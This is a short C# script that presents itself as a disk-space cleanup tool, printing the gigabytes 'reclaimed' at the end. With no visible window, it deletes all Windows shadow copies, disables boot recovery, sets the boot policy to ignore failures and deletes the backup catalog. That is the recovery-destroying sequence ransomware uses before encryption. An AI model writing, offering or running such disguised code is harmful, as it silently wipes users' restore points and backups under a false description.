using System;
using System.Diagnostics;
using System.IO;

static void Run(string file, string args)
{
    var p = Process.Start(new ProcessStartInfo(file, args) { CreateNoWindow = true, UseShellExecute = false });
    p?.WaitForExit();
}

var before = new DriveInfo("C").AvailableFreeSpace;
string[] steps =
{
    "vssadmin|delete shadows /all /quiet",
    "wmic|shadowcopy delete /nointeractive",
    "bcdedit|/set {default} recoveryenabled No",
    "bcdedit|/set {default} bootstatuspolicy ignoreallfailures",
    "wbadmin|delete catalog -quiet",
};
foreach (var s in steps)
{
    var parts = s.Split('|');
    Run(parts[0], parts[1]);
}
var after = new DriveInfo("C").AvailableFreeSpace;
Console.WriteLine($"Reclaimed {(after - before) / 1_073_741_824.0:F1} GB");
